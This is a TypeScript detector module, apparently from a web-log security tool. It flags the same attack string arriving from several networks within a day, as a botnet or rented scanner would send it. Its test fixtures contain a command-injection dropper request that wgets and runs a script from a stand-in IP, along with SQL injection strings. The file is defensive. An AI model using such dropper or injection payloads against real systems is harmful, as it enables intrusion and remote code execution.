import { defineDetector, times } from '../detector.ts'
import { Recent, Watched } from '../recent.ts'
import { Signal } from '../signals.ts'

const SPAN = 24 * 3_600_000
/** Two may be one person at home and on the road. */
const NETWORKS = 3
/** Shorter attacks are everybody's: `/?id=1'`. */
const LENGTH = 24
/** A mere path is what a known hole prescribes; only what follows or is escaped was somebody's choice. */
const FREE = /[?%;$\\]/

export default defineDetector({
  id: 'campaign/same-payload',
  title: 'The same attack from several networks',
  why: 'Exactly the same attack, letter for letter, comes from three or more networks within a day: one program with many addresses, a botnet or a scanner for hire. Ban the pattern and not the addresses.',
  ja: {
    title: '複数のネットワークからの同じ攻撃',
    why: '一字一句同じ攻撃が 1 日以内に三つ以上のネットワークから来ています。一つのプログラムが多くのアドレスを使っています（ボットネットなど）。アドレスではなくパターンを遮断してください。',
    falsePositives: '公開された脆弱性情報から写した攻撃は、誰が送っても同じ形になります。',
  },
  severity: 'medium',
  stage: 'inject',
  attack: ['T1595.002', 'T1584.005'],
  refs: ['https://attack.mitre.org/techniques/T1584/005/'],
  falsePositives: 'Attacks copied from a public advisory look the same whoever sends them.',
  by: 'target',
  wants: Signal.attack,
  start: (site, mark) => {
    const payloads = new Watched<string, { recent: Recent; caughtUntil: number }>(
      () => ({ recent: new Recent(SPAN, 1024), caughtUntil: -Infinity }),
      8192,
    )
    return {
      see(event) {
        const { source, time, row } = event
        const { target } = event
        if (source === 0 || target.length < LENGTH || !FREE.test(target)) return
        const payload = payloads.of(target.slice(0, 2000))
        if (time > payload.caughtUntil) {
          payload.recent.push(time, row, site.networkOf(source))
          if (payload.recent.distinct < NETWORKS) return
          payload.recent.drain(mark)
        } else mark(row)
        payload.caughtUntil = time + SPAN
      },
    }
  },

  hits: [
    {
      name: 'a dropper from three networks',
      events: times(3, (i) => ({
        at: i * 3000,
        source: `10.${i}.0.1`,
        request: 'GET /shell?cd+/tmp;wget+http://203.0.113.77/a.sh;sh+a.sh',
        status: 404,
        hits: ['cmdi/example'],
      })),
    },
    {
      name: 'many times over the day',
      events: times(20, (i) => ({
        at: i * 3000,
        source: `10.${i % 4}.0.1`,
        request: 'GET /p?id=1%20union%20select%201,2,3',
        status: 200,
        hits: ['sqli/example'],
      })),
    },
  ],
  misses: [
    {
      name: 'a path that a known hole prescribes',
      events: times(9, (i) => ({
        source: `10.${i}.0.1`,
        request: 'POST /ws/v1/cluster/apps/new-application',
        status: 404,
        hits: ['cmdi/example'],
      })),
    },
    {
      name: 'neighbours of one network',
      events: times(9, (i) => ({
        source: `10.0.0.${i}`,
        request: 'GET /p?id=1%20union%20select%201,2,3',
        status: 200,
        hits: ['sqli/example'],
      })),
    },
    {
      name: 'different attacks',
      events: times(9, (i) => ({
        source: `10.${i}.0.1`,
        request: `GET /p?id=1%20union%20select%201,2,${i}`,
        status: 200,
        hits: ['sqli/example'],
      })),
    },
  ],
})
